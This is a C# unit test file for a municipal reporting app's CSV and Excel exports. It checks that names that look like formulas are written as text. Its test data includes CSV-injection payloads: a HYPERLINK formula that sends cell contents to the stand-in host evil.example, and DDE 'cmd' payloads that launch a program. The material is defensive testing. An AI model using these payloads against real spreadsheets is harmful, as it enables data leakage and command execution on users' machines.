using System.Globalization;
using System.Text;
using ClosedXML.Excel;
using CsvHelper;
using CsvHelper.Configuration;
using LeanTeamsApp.Features.Board;
using LeanTeamsApp.Features.Organisation;
using LeanTeamsApp.Features.Reports;
using LeanTeamsApp.Features.Weeks;

namespace LeanTeamsApp.UnitTests.Reports;

/// <summary>
/// Names in the report files come from users and HR sheets. In the CSV a name that starts like a formula must reach
/// Excel as text (OWASP's CSV injection advice: a leading apostrophe); the workbook stores names as text anyway.
/// </summary>
public sealed class ReportFilesTests
{
    public static TheoryData<string> FormulaLikeNames =>
    [
        "=HYPERLINK(\"https://evil.example/?leak=\"&A1;\"Klikk her\")",
        "+47 Servicetorget",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];

    [Theory]
    [MemberData(nameof(FormulaLikeNames))]
    public void Csv_NameThatStartsLikeAFormula_IsWrittenAsTextWithALeadingApostrophe(string name)
    {
        var cells = Row(Csv(Report(area: name, unit: name)), 1);

        Assert.Equal("'" + name, cells[0]);
        Assert.Equal("'" + name, cells[1]);
    }

    [Fact]
    public void Csv_OrdinaryNamesAndFigures_AreWrittenAsTheyAre()
    {
        var csv = Csv(Report(area: "Helse og omsorg", unit: "Fjordtun sykehjem - avd. 2", amount: -3.5m));

        // A negative figure starts with the culture's minus sign (U+2212 in nb-NO), never with an apostrophe.
        var minus = (-3.5m).ToString("0.##", CultureInfo.GetCultureInfo("nb-NO"));
        Assert.Equal(["Helse og omsorg", "Fjordtun sykehjem - avd. 2", "10", "8", "7", "2", "1", "3", "1", "0", "0", "0", "0", "0", "0", minus], Row(csv, 1));
        Assert.Equal(minus, Row(csv, 2)[^1]);
    }

    [Theory]
    [MemberData(nameof(FormulaLikeNames))]
    public void Excel_NameThatStartsLikeAFormula_IsStoredAsTextNotAsAFormula(string name)
    {
        using var workbook = new XLWorkbook(new MemoryStream(ReportFiles.Excel(Report(area: name, unit: name), Language.Nb)));

        var row = workbook.Worksheet(1).Row(4);
        Assert.All([row.Cell(1), row.Cell(2)], cell =>
        {
            Assert.False(cell.HasFormula);
            Assert.Equal(XLDataType.Text, cell.DataType);
            // The workbook keeps line breaks as \n.
            Assert.Equal(name.Replace('\r', '\n'), cell.GetString());
        });
    }

    private static Report Report(string area, string unit, decimal amount = 12m) => new("Fjordvik kommune", new ReportPeriod(2026, 3), new DateOnly(2026, 9, 30),
    [
        new ReportRow(area, unit)
        {
            MeetingsExpected = 10, MeetingsHeld = 8, CheckIns = 7, ImprovementsNew = 2, ImprovementsDone = 1, Deviations = 3, GembaWalksDone = 1,
            Benefits = [new BenefitSum(BenefitKind.TimeSaved, BenefitMeasure.Hours, amount, [])],
        },
    ]);

    private static string Csv(Report report)
    {
        var bytes = ReportFiles.Csv(report, Language.Nb);
        return Encoding.UTF8.GetString(bytes.AsSpan(3));
    }

    /// <summary>The cells of one line as a CSV reader (and Excel) splits and unquotes them.</summary>
    private static string[] Row(string csv, int index)
    {
        using var reader = new CsvReader(new StringReader(csv), new CsvConfiguration(CultureInfo.GetCultureInfo("nb-NO")) { HasHeaderRecord = false });
        for (var i = 0; i < index; i++)
        {
            reader.Read();
        }

        reader.Read();
        return [.. Enumerable.Range(0, reader.Parser.Count).Select(i => reader.GetField(i)!)];
    }
}
